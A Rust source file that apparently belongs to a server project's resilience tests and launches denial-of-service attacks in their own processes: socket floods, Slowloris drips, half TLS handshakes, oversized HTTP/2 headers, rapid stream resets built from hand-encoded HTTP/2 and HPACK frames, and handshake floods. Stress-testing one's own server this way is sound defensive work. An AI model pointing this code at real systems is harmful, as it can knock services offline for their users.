//! Who attacks a server, each from a process of its own.

use std::net::SocketAddr;
use std::path::Path;
use std::process::{Child, Command, Stdio};
use std::sync::Arc;
use std::time::Duration;

use clap::ValueEnum;
use dominator_core::auth::Role;
use rustls::ClientConfig;
use rustls_pki_types::ServerName;
use tokio::io::{AsyncRead, AsyncReadExt as _, AsyncWrite, AsyncWriteExt as _};
use tokio::net::{TcpSocket, TcpStream};
use tokio::task::JoinSet;
use tokio::time::{interval, sleep};
use tokio_rustls::TlsConnector;
use tokio_rustls::client::TlsStream;

use super::network;

/// From how many addresses strangers come.
const ADDRESSES: u8 = 50;
/// How long those who are patient wait.
const PATIENT: Duration = Duration::from_secs(1);
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";

#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
pub enum Attack {
    /// Five thousand sockets that say nothing; each comes back a second after it was closed.
    Idle,
    /// The same, and each comes back at once.
    Connects,
    /// A thousand handshakes whose first words come a byte a second, and a hundred holders of a certificate whose headers do.
    Slowloris,
    /// A thousand handshakes that end with the first words; each comes back a second after it was closed.
    Halves,
    /// No TLS, a thousand a second.
    Garbage,
    /// Headers that are too long, and such without end, of one holder of a certificate, as fast as it goes.
    Headers,
    /// Calls that are begun and reset, as fast as it goes.
    Resets,
    /// Handshakes with a certificate, one after the other, as fast as it goes, and nothing after them.
    Handshakes,
}

/// A process that attacks until it is dropped.
pub struct Attacker(Child);

impl Attacker {
    pub fn start(attack: Attack, directory: &Path, address: SocketAddr) -> Self {
        let mut command = Command::new(std::env::current_exe().unwrap());
        let attack = attack.to_possible_value().unwrap();
        command.args(["--attack", attack.get_name()]).arg("--directory").arg(directory);
        command.arg("--address").arg(address.to_string());
        Self(command.stdin(Stdio::null()).spawn().unwrap())
    }
}

impl Drop for Attacker {
    fn drop(&mut self) {
        drop(self.0.kill());
        drop(self.0.wait());
    }
}

/// What every attack knows.
#[derive(Clone)]
struct Scene {
    address: SocketAddr,
    config: Arc<ClientConfig>,
}

impl Attack {
    /// Is the attacker.
    pub async fn run(self, directory: &Path, address: SocketAddr) {
        let (trust, credentials) = network::load(directory, "client");
        let config = Arc::new(trust.client_config(&credentials, Role::ImageServer).unwrap());
        let scene = Scene { address, config };
        match self {
            Self::Idle => scene.strangers(5000, PATIENT, false).await,
            Self::Connects => scene.strangers(5000, Duration::ZERO, false).await,
            Self::Slowloris => {
                tokio::join!(scene.slow_strangers(1000), scene.slow_callers(100));
            }
            Self::Halves => scene.strangers(1000, PATIENT, true).await,
            Self::Garbage => scene.garbage().await,
            Self::Headers => scene.headers().await,
            Self::Resets => scene.resets().await,
            Self::Handshakes => loop {
                drop(scene.caller().await);
            },
        }
    }
}

impl Scene {
    /// Each says nothing, or the first words of a handshake, and waits to be closed.
    async fn strangers(&self, count: usize, pause: Duration, say_hello: bool) {
        let hello = if say_hello { self.hello() } else { Vec::new() };
        let mut strangers = JoinSet::new();
        for number in (0..ADDRESSES).cycle().take(count) {
            let (scene, hello) = (self.clone(), hello.clone());
            strangers.spawn(async move {
                loop {
                    let mut socket = scene.stranger(number).await;
                    drop(socket.write_all(&hello).await);
                    while matches!(socket.read(&mut [0; 4096]).await, Ok(1..)) {}
                    // Also no time at all is a thousandth of a second to who sleeps.
                    if !pause.is_zero() {
                        sleep(pause).await;
                    }
                }
            });
        }
        strangers.join_all().await;
    }

    async fn slow_strangers(&self, count: usize) {
        let hello = self.hello();
        let mut strangers = JoinSet::new();
        for number in (0..ADDRESSES).cycle().take(count) {
            let (scene, hello) = (self.clone(), hello.clone());
            strangers.spawn(async move {
                loop {
                    drip(&mut scene.stranger(number).await, &hello).await;
                }
            });
        }
        strangers.join_all().await;
    }

    async fn slow_callers(&self, count: usize) {
        let mut callers = JoinSet::new();
        for _ in 0..count {
            let scene = self.clone();
            callers.spawn(async move {
                loop {
                    let mut caller = scene.caller().await;
                    drop(caller.write_all(&[PREFACE, &frame(1, 0, 1, &[])].concat()).await);
                    // More headers, each of them a byte a second.
                    drip(&mut caller, &frame(9, 0, 1, &field(b"\0\x06x-more", "x")).repeat(1000)).await;
                }
            });
        }
        callers.join_all().await;
    }

    async fn garbage(&self) {
        let mut ticks = interval(Duration::from_millis(1));
        for number in (0..ADDRESSES).cycle() {
            ticks.tick().await;
            let mut socket = self.stranger(number).await;
            drop(socket.write_all(b"GET / HTTP/1.1\r\n\r\n").await);
            drop(socket.read(&mut [0; 1]).await);
        }
    }

    async fn headers(&self) {
        let long = field(b"\0\x06x-long", &"x".repeat(16_000));
        loop {
            // Those that end are refused one by one, until it is too many; the others end the connection.
            for ends in [4, 0] {
                let mut caller = self.caller().await;
                let mut stream = 1;
                drop(caller.write_all(PREFACE).await);
                drop(caller.write_all(&frame(1, 0, stream, &long)).await);
                while caller.write_all(&frame(9, ends, stream, &long)).await.is_ok() {
                    if ends > 0 {
                        stream += 2;
                        drop(caller.write_all(&frame(1, 0, stream, &long)).await);
                    }
                }
            }
        }
    }

    async fn resets(&self) {
        loop {
            let mut caller = self.caller().await;
            drop(caller.write_all(PREFACE).await);
            let mut stream = 1_u32;
            while caller.write_all(&begun_and_reset(stream)).await.is_ok() {
                stream += 2;
            }
        }
    }

    async fn stranger(&self, number: u8) -> TcpStream {
        loop {
            let socket = TcpSocket::new_v4().unwrap();
            socket.set_reuseaddr(true).unwrap();
            socket.bind(([127, 0, 77, number + 1], 0).into()).unwrap();
            if let Ok(stream) = socket.connect(self.address).await {
                return stream;
            }
        }
    }

    async fn caller(&self) -> TlsStream<TcpStream> {
        let connector = TlsConnector::from(self.config.clone());
        loop {
            let stream = TcpStream::connect(self.address).await.unwrap();
            if let Ok(stream) = connector.connect(self.name(), stream).await {
                return stream;
            }
        }
    }

    /// The first words of a handshake. They cost whoever repeats them nothing.
    fn hello(&self) -> Vec<u8> {
        let mut client = rustls::ClientConnection::new(self.config.clone(), self.name()).unwrap();
        let mut hello = Vec::new();
        client.write_tls(&mut hello).unwrap();
        hello
    }

    fn name(&self) -> ServerName<'static> {
        ServerName::IpAddress(self.address.ip().into())
    }
}

/// Says a byte a second, until the other end closes or all is said.
async fn drip<S: AsyncRead + AsyncWrite + Unpin>(stream: &mut S, words: &[u8]) {
    let (mut read, mut write) = tokio::io::split(stream);
    let say = async {
        let mut ticks = interval(Duration::from_secs(1));
        for word in words.chunks(1) {
            ticks.tick().await;
            if write.write_all(word).await.is_err() || write.flush().await.is_err() {
                break;
            }
        }
    };
    let hear = async { while matches!(read.read(&mut [0; 1024]).await, Ok(1..)) {} };
    tokio::select! {
        () = say => {}
        () = hear => {}
    }
}

/// `ObjectServer.AddObjects`, which waits for its messages.
fn begun_and_reset(stream: u32) -> Vec<u8> {
    let block = [
        &[0x83, 0x86][..],
        &field(&[0x04], "/dominator.v1.ObjectServer/AddObjects"),
        &field(&[0x01], "dominator"),
        &field(&[0x0f, 0x10], "application/grpc"),
        &field(b"\0\x02te", "trailers"),
    ];
    [frame(1, 4, stream, &block.concat()), frame(3, 0, stream, &[0, 0, 0, 8])].concat()
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// A header as HPACK writes it: its name, or its place in the table, and the value with its length before it.
fn field(name: &[u8], value: &str) -> Vec<u8> {
    let mut field = name.to_vec();
    let mut rest = value.len();
    if rest < 127 {
        field.push(u8::try_from(rest).unwrap());
    } else {
        field.push(127);
        rest -= 127;
        while rest >= 128 {
            field.push(u8::try_from(rest % 128 + 128).unwrap());
            rest /= 128;
        }
        field.push(u8::try_from(rest).unwrap());
    }
    field.extend(value.as_bytes());
    field
}
